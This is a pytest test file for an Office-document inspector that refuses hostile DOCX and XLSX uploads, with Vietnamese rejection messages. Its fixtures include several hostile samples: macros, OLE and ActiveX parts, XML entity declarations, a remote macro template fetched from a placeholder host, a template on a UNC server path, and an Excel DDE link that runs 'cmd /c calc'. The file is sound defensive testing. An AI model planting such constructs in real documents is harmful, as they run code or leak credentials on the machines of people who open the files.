"""Word and Excel files that run or fetch something, written in every way Office understands."""

import io
import zipfile

import pytest
from django.utils import translation

from inspections.office_files import DOCX, XLSX, office_fault
from tests.bad_inputs import payloads

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

MACROS = "Tệp có macro; hãy lưu lại không có macro."
OBJECT = "Tệp có đối tượng nhúng (OLE); hãy dán lại dưới dạng ảnh rồi lưu lại tệp."
CONTROL = "Tệp có nút điều khiển (ActiveX); hãy xóa các nút đó rồi lưu lại tệp."
CHUNK = "Tệp nạp thêm một tệp khác khi được mở; hãy mở bằng Word rồi lưu thành tệp DOCX mới."
DDE = "Tệp gọi một chương trình khác (DDE); hãy dán giá trị vào thay cho liên kết rồi lưu lại tệp."
DEFINITION = "Tệp chứa khai báo có thể gây hại cho máy đọc."
DAMAGED = "Tệp hỏng, không mở được."
OTHER_KIND = "Nội dung tệp không đúng như tên tệp."
TOO_LARGE = "Tệp giải nén ra quá 50 MB hoặc quá nhiều phần."
PASSWORD = "Tệp có mật khẩu hoặc ở định dạng cũ; hãy bỏ mật khẩu và lưu sang định dạng mới."
TEMPLATE = "Tệp tải mẫu “{}” từ nơi khác. Trong Word, chọn Tệp (File)"
ELSEWHERE = "Tệp tải “{}” từ nơi khác; hãy dán nội dung"


def fault(content, kind=DOCX):
    with translation.override("vi"):
        return office_fault(io.BytesIO(content), kind)


def relation(kind, target, *, outside=False, of=OFFICE):
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rId9" Type="{of}/{kind}" Target="{target}"{mode}/>'


def override(part, kind):
    return f'<Override PartName="{part}" ContentType="{kind}"/>'


def changed(content, parts=(), *, renamed=None, packing=zipfile.ZIP_DEFLATED):
    """The package with some parts replaced or added, or under another name."""
    out, parts, renamed = io.BytesIO(), dict(parts), renamed or {}
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", packing) as new:
        for name in old.namelist():
            new.writestr(renamed.get(name, name), parts.pop(name, old.read(name)))
        for name, body in parts.items():
            new.writestr(name, body)
    return out.getvalue()


def with_relation(kind, target, **how):
    return payloads.docx(rels=relation(kind, target, **how))


def with_part(name, kind, body=b"x"):
    return payloads.docx(extra=[(name, body)], ct=override(f"/{name}", kind))


def rels(text, encoding="utf-8", *, name="word/_rels/document.xml.rels"):
    """A file whose list of relations is written so."""
    return changed(payloads.docx(), {name: text.encode(encoding)})


REMOTE = relation("attachedTemplate", "http://a.example/x.dotm", outside=True)
LIST = f'<Relationships xmlns="{RELATIONS}">{{}}</Relationships>'


DRAWING = '<?xml version="1.0"?><!DOCTYPE svg {}><svg xmlns="http://www.w3.org/2000/svg"/>'
PUBLIC = 'PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'


def drawing(doctype):
    return with_part("word/media/image2.svg", "image/svg+xml", DRAWING.format(doctype))


HOSTILE = {
    "drawing with an entity": (drawing('[<!ENTITY a "b">]'), DEFINITION),
    "main part missing": (
        changed(
            payloads.docx(),
            {
                "[Content_Types].xml": payloads._CT % override("/word/a.xml", MAIN),
                "_rels/.rels": LIST.format(relation("officeDocument", "word/a.xml")),
            },
        ),
        DAMAGED,
    ),
    # what a part is
    "vba": (with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), MACROS),
    "vba named otherwise": (
        with_part("word/media/image1.png", "application/vnd.ms-office.vbaProject"),
        MACROS,
    ),
    "vba type in other letters": (
        with_part("word/a.dat", " Application/VND.ms-office.VBAPROJECT ; a=b"),
        MACROS,
    ),
    "vba by relation": (with_relation("vbaProject", "a.png", of=MICROSOFT), MACROS),
    "macro sheet": (with_part("xl/a.xml", "application/vnd.ms-excel.macrosheet+xml"), MACROS),
    "toolbars": (with_relation("attachedToolbars", "a.bin", of=MICROSOFT), MACROS),
    "macro document": (
        changed(
            payloads.docx(),
            {
                "[Content_Types].xml": payloads._CT
                % override(
                    "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        MACROS,
    ),
    "ole": (
        with_part(
            "word/embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject"
        ),
        OBJECT,
    ),
    "ole with another ending": (
        with_part("word/media/a.jpeg", "application/vnd.openxmlformats-officedocument.oleObject"),
        OBJECT,
    ),
    "ole by relation": (with_relation("oleObject", "media/a.jpeg"), OBJECT),
    "ole in the strict format": (with_relation("oleObject", "a.bin", of=STRICT), OBJECT),
    "ole by default type": (
        payloads.docx(
            extra=[("word/media/a.emf", b"x")],
            ct='<Default ContentType="application/vnd.openxmlformats-officedocument.oleObject"'
            ' Extension="EMF"/>',
        ),
        OBJECT,
    ),
    "activex": (with_part("word/a.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"), CONTROL),
    "activex by relation": (with_relation("control", "activeX/activeX1.xml"), CONTROL),
    "activex binary": (with_relation("activeXControlBinary", "a.bin", of=MICROSOFT), CONTROL),
    "altChunk": (with_relation("aFChunk", "a.mht"), CHUNK),
    # relations to other places
    "template": (rels(LIST.format(REMOTE)), TEMPLATE.format("http://a.example/x.dotm")),
    "single quotes": (
        rels(LIST.format(REMOTE).replace('"', "'")),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "blanks and a prefix": (
        rels(
            f'<?xml version="1.0"?><r:Relationships xmlns:r="{RELATIONS}">'
            + REMOTE.replace("<Relationship ", "<r:Relationship\n\t").replace("=", " = ")
            + "</r:Relationships>"
        ),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "letters as numbers": (
        rels(LIST.format(REMOTE.replace("External", "&#69;xternal").replace("http", "&#x68;ttp"))),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "utf-16": (
        rels(LIST.format(REMOTE), "utf-16"),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "RELS": (
        changed(
            payloads.docx(rels=REMOTE),
            renamed={"word/_rels/document.xml.rels": "word/_RELS/document.xml.RELS"},
        ),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "relations named otherwise": (
        with_part(
            "word/a.bin",
            "application/vnd.openxmlformats-package.relationships+xml",
            LIST.format(REMOTE),
        ),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "behind a long comment": (
        rels(f"<!--{'a' * 2_000_000}-->" + LIST.format(REMOTE)),
        TEMPLATE.format("http://a.example/x.dotm"),
    ),
    "template of a server": (
        with_relation("attachedTemplate", r"file:///\\10.0.0.1\x\a.dotm", outside=True),
        TEMPLATE.format(r"file:///\\10.0.0.1\x\a.dotm"),
    ),
    "template of a server, escaped": (
        with_relation("attachedTemplate", "file:///%5C%5Cserver/a.dotm", outside=True),
        TEMPLATE.format(r"file:///\\server/a.dotm"),
    ),
    "template of a server as an address": (
        with_relation("attachedTemplate", "file://server/a.dotm", outside=True),
        TEMPLATE.format("file://server/a.dotm"),
    ),
    "frame": (
        with_relation("frame", "http://a.example/f.htm", outside=True),
        ELSEWHERE.format("http://a.example/f.htm"),
    ),
    "sub-document": (
        with_relation("subDocument", "file:///D:/phan-2.docx", outside=True),
        ELSEWHERE.format("file:///D:/phan-2.docx"),
    ),
    "linked object": (
        with_relation("oleObject", "http://a.example/o.rtf", outside=True),
        ELSEWHERE.format("http://a.example/o.rtf"),
    ),
    "list of letters on a server": (
        with_relation("mailMergeSource", "http://a.example/a.xlsx", outside=True),
        ELSEWHERE.format("http://a.example/a.xlsx"),
    ),
    # definitions
    "doctype": (rels("<!DOCTYPE a []>" + LIST.format("")), DEFINITION),
    "doctype late": (rels(f"<!--{'a' * 9_000}--><!DOCTYPE a>" + LIST), DEFINITION),
    "doctype in utf-16": (
        changed(payloads.docx(), {"word/styles.xml": "<!DOCTYPE a []><a/>".encode("utf-16")}),
        DEFINITION,
    ),
    "doctype in a part of another name": (
        with_part("word/a.bin", "application/xml", "<!DOCTYPE a []><a/>"),
        DEFINITION,
    ),
    "entity": (
        changed(payloads.docx(), {"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        DEFINITION,
    ),
    # packages
    "damaged XML": (changed(payloads.docx(), {"word/document.xml": "<a"}), DAMAGED),
    "unknown letters": (
        changed(payloads.docx(), {"word/document.xml": '<?xml version="1.0" encoding="x-1"?><a/>'}),
        DAMAGED,
    ),
    "two parts of one name": (
        changed(payloads.docx(), {"WORD/Document.xml": "<a/>"}),
        DAMAGED,
    ),
    "packed otherwise": (changed(payloads.docx(), packing=zipfile.ZIP_LZMA), DAMAGED),
    "no list of types": (payloads.zip_many(3), OTHER_KIND),
    "no package": (b"PK\x03\x04 and nothing", DAMAGED),
    "another kind": (payloads.xlsx_dimension_lie(), OTHER_KIND),
    "too many parts": (payloads.zip_many(6_000), TOO_LARGE),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_is_refused_for_its_true_reason(name):
    content, reason = HOSTILE[name]
    said = fault(content)
    assert said.startswith(reason), said


def word_online():
    """Word Online calls the main part document2.xml."""
    return changed(
        payloads.docx(),
        {
            "[Content_Types].xml": payloads._CT % override("/word/document2.xml", MAIN),
            "_rels/.rels": LIST.format(relation("officeDocument", "word/document2.xml")),
        },
        renamed={"word/document.xml": "word/document2.xml"},
    )


def strict(content, target):
    return changed(
        content, {"_rels/.rels": LIST.format(relation("officeDocument", target, of=STRICT))}
    )


def with_chart(workbook):
    """A chart keeps its table as a workbook inside the document."""
    return payloads.docx(
        extra=[
            ("word/charts/chart1.xml", "<c/>"),
            (
                "word/charts/_rels/chart1.xml.rels",
                LIST.format(relation("package", "../embeddings/a.xlsx")),
            ),
            ("word/embeddings/a.xlsx", workbook),
        ],
        ct=override("/word/embeddings/a.xlsx", SHEET),
    )


HARMLESS = {
    "word online": word_online(),
    "strict": strict(payloads.docx(), "/word/document.xml"),
    "target from the root": changed(
        payloads.docx(),
        {"_rels/.rels": LIST.format(relation("officeDocument", "/WORD/document.xml"))},
    ),
    "web link": with_relation("hyperlink", "https://dongthap.gov.vn/?a=1&amp;b=2", outside=True),
    "mail link": with_relation("hyperlink", "mailto:a@dongthap.gov.vn", outside=True),
    "link in the strict format": with_relation(
        "hyperlink", "https://dongthap.gov.vn", outside=True, of=STRICT
    ),
    "web picture": with_relation("image", "https://dongthap.gov.vn/a.png", outside=True),
    "drawing of another program": drawing(PUBLIC),
    "list of letters": with_relation("mailMergeSource", r"file:///D:\Moi.xlsx", outside=True),
    "type without a part": payloads.docx(
        ct='<Default Extension="ole" ContentType="'
        'application/vnd.openxmlformats-officedocument.oleObject"/>'
    ),
    "backslashes": changed(payloads.docx(), renamed={"word/document.xml": "word\\document.xml"}),
    "chart": with_chart(payloads.xlsx_dimension_lie()),
    "folders": changed(payloads.docx(), {"word/": ""}),
    "empty part": changed(payloads.docx(), {"customXml/item1.xml": ""}),
    "utf-16": rels(LIST.format(""), "utf-16"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_is_accepted(name):
    assert fault(HARMLESS[name]) == ""


def linked(kind):
    extra = {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": LIST.format(
            relation(kind, r"file:///D:\Bao-cao\Thang-7.xlsx", outside=True)
        ),
    }
    return changed(payloads.xlsx_dimension_lie(), extra)


def test_a_workbook_linked_to_others_is_accepted():
    assert fault(linked("externalLinkPath"), XLSX) == ""
    assert fault(linked("xlExternalLinkPath/xlPathMissing"), XLSX) == ""
    assert fault(linked("externalLinkLongPath"), XLSX) == ""
    assert fault(strict(linked("externalLinkPath"), "xl/workbook.xml"), XLSX) == ""


def test_a_workbook_that_calls_a_program_is_refused():
    call = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    content = changed(payloads.xlsx_dimension_lie(), {"xl/externalLinks/externalLink1.xml": call})
    assert fault(content, XLSX) == DDE


def test_what_is_inside_a_chart_is_read_too():
    macros = changed(
        payloads.xlsx_dimension_lie(),
        {
            "xl/a.dat": b"x",
            "xl/_rels/workbook.xml.rels": LIST.format(
                relation("vbaProject", "a.dat", of=MICROSOFT)
            ),
        },
    )
    assert fault(with_chart(macros)) == MACROS
    assert fault(with_chart(b"MZ no package")) == OBJECT


def test_files_within_files_are_not_followed_for_ever():
    inner = payloads.docx()
    for _ in range(2):
        inner = with_chart(inner)
    assert fault(inner) == ""
    assert fault(with_chart(inner)) == OBJECT


def test_parts_and_sizes_of_files_within_files_are_counted_together(monkeypatch):
    content = with_chart(payloads.xlsx_dimension_lie())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        outer = len(package.namelist())
    monkeypatch.setattr("inspections.office_files.MAX_ENTRIES", outer)
    assert fault(content) == TOO_LARGE
    monkeypatch.setattr("inspections.office_files.MAX_ENTRIES", outer + 6)
    assert fault(content) == ""


def test_relations_are_counted(monkeypatch):
    many = payloads.docx(rels=relation("hyperlink", "http://a", outside=True) * 11)
    assert fault(many) == ""
    monkeypatch.setattr("inspections.office_files.MAX_ELEMENTS", 10)
    assert fault(many) == TOO_LARGE


def test_a_locked_archive_is_named():
    content = bytearray(payloads.docx())
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1  # the first entry of the central directory
    assert fault(bytes(content)) == PASSWORD


def test_a_corrupt_archive_is_damaged():
    content = bytearray(payloads.docx())
    place = content.index(b"[Content_Types].xml") + 25
    content[place : place + 30] = b"\xff" * 30
    assert fault(bytes(content)) == DAMAGED
